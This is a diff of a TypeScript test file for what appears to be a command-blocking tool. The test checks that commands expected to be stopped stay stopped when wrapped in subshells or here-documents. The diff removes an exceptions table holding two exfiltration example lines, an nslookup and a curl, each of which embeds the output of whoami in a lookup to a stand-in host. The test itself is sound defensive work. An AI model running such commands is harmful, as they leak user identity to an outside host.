@@ -13,12 +13,6 @@ const cases = readCorpus().flatMap((one) => {
   return command === undefined || shell !== undefined || command.startsWith("#") ? [] : [{ one, command }];
 });
 
-/** Lines that read differently inside what a variation puts around them, named one by one. */
-const EXCEPTIONS: Readonly<Record<string, readonly string[]>> = {
-  // A lookup whose name is put together inside a shell that reads its input: the label's origin is the input then.
-  "here-document": ["nslookup $(whoami).x.collect.dev", 'curl "http://$(whoami).collect.dev/"'],
-};
-
 beforeAll(() => loadGrammars(["python", "typescript", "ruby", "php"]), 60_000);
 
 function stopped(one: Case, command: string): boolean {
@@ -33,10 +27,7 @@ describe("a stopped call stays stopped", () => {
     test(name, () => {
       const freed = cases
         .filter(({ one }) => one.expect === "stop")
-        .filter(
-          ({ command }) =>
-            !(name === "subshell" && command.startsWith("(")) && EXCEPTIONS[name]?.includes(command) !== true,
-        )
+        .filter(({ command }) => !(name === "subshell" && command.startsWith("(")))
         .filter(({ one, command }) => {
           const spelled = spell(command);
           return spelled !== undefined && !stopped(one, spelled);
